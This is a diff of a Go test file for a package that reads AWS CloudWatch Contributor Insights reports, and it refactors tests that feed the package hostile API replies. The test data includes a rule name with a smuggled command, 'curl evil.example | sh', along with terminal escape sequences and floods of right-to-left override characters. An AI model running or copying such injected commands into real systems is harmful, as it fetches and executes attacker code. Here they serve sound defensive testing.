@@ -60,8 +60,8 @@ func TestAttacksByReports(t *testing.T) {
 		"a time beyond all":       {reported(key, cbor.Float64(1e300), cbor.Float64(7)), "", 0},
 		"no time":                 {reported(key, cbor.Float64(math.NaN()), cbor.Float64(7)), "", 0},
 		"a text for a time":       {reported(key, cbor.String("noon"), cbor.Float64(7)), "does not speak CloudWatch's protocol", 0},
-		"more keys than asked":    {many(26), "returned 26 keys, and 25 were asked for", 0},
-		"less keys than none":     {cbor.Map{"ApproximateUniqueCount": cbor.NegInt(5)}, "counts -5 keys", 0},
+		"more keys than asked":    {many(26), "returned 26 of 0 keys, and 25 were asked for", 0},
+		"less keys than none":     {cbor.Map{"ApproximateUniqueCount": cbor.NegInt(5)}, "returned 0 of -5 keys", 0},
 		"uncountable keys":        {cbor.Map{"ApproximateUniqueCount": cbor.Uint(math.MaxUint64)}, "does not speak CloudWatch's protocol", 0},
 		"nothing":                 {cbor.Map{}, "", 0},
 		"a list":                  {cbor.List{}, "does not speak CloudWatch's protocol", 0},
@@ -72,8 +72,7 @@ func TestAttacksByReports(t *testing.T) {
 			t.Parallel()
 			s := cloudwatchtest.New(t)
 			s.Raw("GetInsightRuleReport", cloudwatchtest.Reply(c.answer))
-			r := contributorinsights.Reader{API: s.Client()}
-			got, err := r.Read(t.Context(), accessed, noon, noon.Add(time.Hour))
+			got, err := contributorinsights.Read(t.Context(), s.Client(), accessed, noon, noon.Add(time.Hour))
 			if (err == nil) != (c.want == "") || err != nil && !strings.Contains(err.Error(), c.want) {
 				t.Fatalf("%v, want %q", err, c.want)
 			}
@@ -81,8 +80,8 @@ func TestAttacksByReports(t *testing.T) {
 			for _, series := range got.Series {
 				points += len(series.Values)
 			}
-			if points != c.points || r.Calls != 1 {
-				t.Errorf("%d loads after %d calls, want %d: %+v", points, r.Calls, c.points, got)
+			if points != c.points {
+				t.Errorf("%d loads, want %d: %+v", points, c.points, got)
 			}
 		})
 	}
@@ -92,26 +91,26 @@ func TestAttacksByReports(t *testing.T) {
 func TestAttacksByRules(t *testing.T) {
 	t.Parallel()
 	orders := sample.Target{Table: "orders"}
-	setup := func(t *testing.T, answer http.HandlerFunc) (contributorinsights.Setup, error) {
+	setup := func(t *testing.T, answer http.HandlerFunc) (contributorinsights.Rules, error) {
 		s := cloudwatchtest.New(t)
 		s.Raw("DescribeContributorInsights", answer)
 		return contributorinsights.Describe(t.Context(), tables(s), orders)
 	}
 	t.Run("names that are commands", func(t *testing.T) {
 		got, err := setup(t, cloudwatchtest.Reply(`{"ContributorInsightsStatus":"ENABLED","ContributorInsightsRuleList":["DynamoDBContributorInsights-PKC-orders-1; curl evil.example | sh","`+accessed+`\u001b[2J","\u0000",""]}`))
-		if err != nil || len(got.Rules) > 0 || hostile.Fault(got.Says()) != "" {
-			t.Errorf("%+v, %v: %s", got, err, got.Says())
+		if err == nil || len(got) > 0 || hostile.Fault(err.Error()) != "" {
+			t.Errorf("%+v, %v", got, err)
 		}
 	})
 	t.Run("a failure that steers a terminal", func(t *testing.T) {
-		got, err := setup(t, cloudwatchtest.Reply(`{"ContributorInsightsStatus":"FAILED","FailureException":{"ExceptionName":"\u001b]0;x\u0007","ExceptionDescription":"`+strings.Repeat(`\u202e`, 10_000)+`"}}`))
-		if err != nil || hostile.Fault(got.Says()) != "" || len(got.Says()) > 10_000 {
-			t.Errorf("%v: %.500q", err, got.Says())
+		_, err := setup(t, cloudwatchtest.Reply(`{"ContributorInsightsStatus":"FAILED","FailureException":{"ExceptionName":"\u001b]0;x\u0007","ExceptionDescription":"`+strings.Repeat(`\u202e`, 10_000)+`"}}`))
+		if err == nil || hostile.Fault(err.Error()) != "" || len(err.Error()) > 10_000 {
+			t.Errorf("%.500v", err)
 		}
 	})
 	for _, text := range []string{`{}`, `{"ContributorInsightsStatus":"\u0000"}`, `{"ContributorInsightsRuleList":null}`} {
-		if got, err := setup(t, cloudwatchtest.Reply(text)); err != nil || got.ErrDisabled() == nil {
-			t.Errorf("%s: %+v, %v", text, got, err)
+		if got, err := setup(t, cloudwatchtest.Reply(text)); err == nil {
+			t.Errorf("%s: %+v", text, got)
 		}
 	}
 	for _, text := range []string{`{"ContributorInsightsRuleList":{}}`, `{"ContributorInsightsStatus":7}`, `{`, `[]`, `nul`} {
@@ -126,7 +125,7 @@ func TestAttacksBySize(t *testing.T) {
 	t.Parallel()
 	for operation, ask := range map[string]func(context.Context, *cloudwatchtest.Server) error{
 		"GetInsightRuleReport": func(ctx context.Context, s *cloudwatchtest.Server) error {
-			_, err := (&contributorinsights.Reader{API: s.Client()}).Read(ctx, accessed, noon, noon.Add(time.Hour))
+			_, err := contributorinsights.Read(ctx, s.Client(), accessed, noon, noon.Add(time.Hour))
 			return err
 		},
 		"DescribeContributorInsights": func(ctx context.Context, s *cloudwatchtest.Server) error {
@@ -167,12 +166,9 @@ func TestNoSetupShowsATextRaw(t *testing.T) {
 		} {
 			s := cloudwatchtest.New(t)
 			s.Raw("DescribeContributorInsights", cloudwatchtest.Reply(answer))
-			got, err := contributorinsights.Describe(t.Context(), tables(s), of)
-			if err != nil {
-				t.Fatal(err)
+			if _, err := contributorinsights.Describe(t.Context(), tables(s), of); err != nil {
+				check(err.Error())
 			}
-			check(got.Says())
-			check(got.EnableAll())
 		}
 		api := dynamodb.New(dynamodb.Options{Region: m.Text(), Credentials: credentials.NewStaticCredentialsProvider("a", "b", ""), RetryMaxAttempts: 1})
 		if _, err := contributorinsights.Describe(t.Context(), api, of); err == nil {
@@ -180,8 +176,8 @@ func TestNoSetupShowsATextRaw(t *testing.T) {
 		} else {
 			check(err.Error())
 		}
-		reports := contributorinsights.Reader{API: cloudwatch.New(cloudwatch.Options{Region: m.Text(), Credentials: credentials.NewStaticCredentialsProvider("a", "b", ""), RetryMaxAttempts: 1})}
-		if _, err := reports.Read(t.Context(), accessed, noon, noon.Add(time.Minute)); err == nil {
+		reports := cloudwatch.New(cloudwatch.Options{Region: m.Text(), Credentials: credentials.NewStaticCredentialsProvider("a", "b", ""), RetryMaxAttempts: 1})
+		if _, err := contributorinsights.Read(t.Context(), reports, accessed, noon, noon.Add(time.Minute)); err == nil {
 			t.Error("a report of a Region that cannot be was read")
 		} else {
 			check(err.Error())
